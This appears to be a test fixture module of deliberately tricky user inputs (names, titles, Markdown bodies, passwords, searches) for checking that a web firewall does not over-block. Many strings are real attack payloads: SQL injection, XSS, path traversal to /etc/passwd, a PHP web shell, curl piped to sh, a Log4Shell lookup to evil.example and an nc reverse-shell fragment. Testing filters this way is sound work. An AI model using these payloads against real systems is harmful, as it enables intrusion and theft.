// What people write, and a careless firewall blocks.

/** Names of accounts and keys. */
export const names = [
  "Seán O'Brien",
  "D'Artagnan de la Union-Select",
  'Null',
  'Robert "Bobby" Tables',
  'Anne-Marie & Jörg',
  'Ng',
  'محمد بن سلمان',
  'יוסי כהן',
  '王小明',
  'Ελένη Παπαδοπούλου',
  'Zoë 🦊 Fox',
  'Jean-Luc (Admin) Picard',
  'Mary, Queen of Scots',
  'test; please ignore',
  'John Doe Jr. #2',
  'Drop Table Furniture Ltd.',
  'AT&T',
  'C++ Users Group',
  '50% Off Store',
  'Selecta Union Sports',
];

/** Titles and searches. */
export const titles = [
  "SELECT * FROM users WHERE name = 'x' is slow",
  'How do I DROP TABLE safely?',
  "' OR '1'='1 explained",
  'Why <script>alert(1)</script> is not run',
  'union select: a football club',
  'rm -rf / and other regrets',
  '; cat /etc/passwd',
  '../../etc/passwd in our logs',
  '${jndi:ldap://...}: what we learned',
  '{{7*7}} in templates',
  'eval() considered harmful',
  'C:\\Windows\\System32\\drivers',
  'https://192.0.2.7/report.pdf',
  '1=1; true; -- comment',
  'Minutes: 5 < 6 && 7 > 3',
  '<?php in a title?',
  'onerror=alert(1) is an attribute',
  'حماية البيانات',
  'אבטחת מידע',
  '🔥🔥 deploy 🔥🔥',
  "It's 5 o'clock -- somewhere",
  'sleep(5) or not to sleep(5)',
  'WAITFOR DELAY in MSSQL',
  'Content-Length: 0',
  'e.g. a@example.org, b@example.org',
];

/** Bodies in Markdown. */
export const texts = [
  '# Notes\n\n- one\n- two\n\n> quoted\n\n**bold** and `code`',
  '```sql\nSELECT id, name FROM users WHERE id = 1 OR 1=1;\nDROP TABLE sessions;\n```',
  '```html\n<script>alert(document.cookie)</script>\n<img src=x onerror=alert(1)>\n```',
  '```sh\ncurl -s https://example.org/install.sh | sh\nsudo rm -rf /tmp/x && cat /etc/hosts\n```',
  '```php\n<?php system($_GET["c"]); ?>\n```',
  '```js\nconst { exec } = require("child_process");\nexec("ls -la");\n```',
  '```python\nimport os\nos.system("id")\n```',
  '```java\nRuntime.getRuntime().exec("id");\n```',
  'The log said `${jndi:ldap://evil.example/a}` and we laughed.',
  '| a | b |\n|---|---|\n| `../../etc/passwd` | `%2e%2e%2f` |',
  '[link](javascript:alert(1)) is removed, [this](https://example.org/?a=1&b=2) stays',
  '<details><summary>more</summary>text</details>',
  'مرحبا بالعالم\n\nשלום עולם\n\n你好，世界',
  '🙂👩‍👩‍👧‍👦🏳️‍🌈 and zero\u200bwidth',
  'x'.repeat(15_000),
  'We met at 10:00; "quoted", \'single\', (round), [square], {curly}, <angle>, 100% & more…',
  'From: a@example.org\nTo: b@example.org\nSubject: hello\n\nbody',
  'HTTP/1.1 200 OK\nSet-Cookie: a=b\nContent-Type: text/html',
  '{"$where": "this.a == this.b"}',
  "O'Reilly wrote: `SELECT` isn't `UNION`; see §4.2 -- or don't.",
];

/** Good ones: long, and full of what shells and databases know. */
export const passwords = [
  "correct' OR '1'='1 horse battery",
  '<script>alert("staple")</script> lantern',
  '; DROP TABLE users; -- quiet harbour',
  '$(cat /etc/passwd) && seven lanterns',
  '../../../../etc/passwd is my password 9',
  '${jndi:ldap://quiet/harbour} lanterns',
  '{{7*7}}#{7*7}<%= 7*7 %> lanterns',
  "1' UNION SELECT username, password FROM users--",
  '`id` | nc -e /bin/sh lantern harbour 42',
  'пароль из семи тихих фонарей',
  'كلمة مرور طويلة جدا وآمنة للغاية',
  '🦊🦊🦊 seven quiet foxes 🦊🦊🦊 %00%0d%0a',
  'php://filter/read=convert.base64-encode',
  "\\'; exec xp_cmdshell('lantern'); --",
  'a very long one '.repeat(7),
];

/** Searches, in the query. */
export const searches = [...titles.slice(0, 12), 'minutes', "o'clock", '50%', 'a+b=c', 'C#', 'naïve café', '中文'];
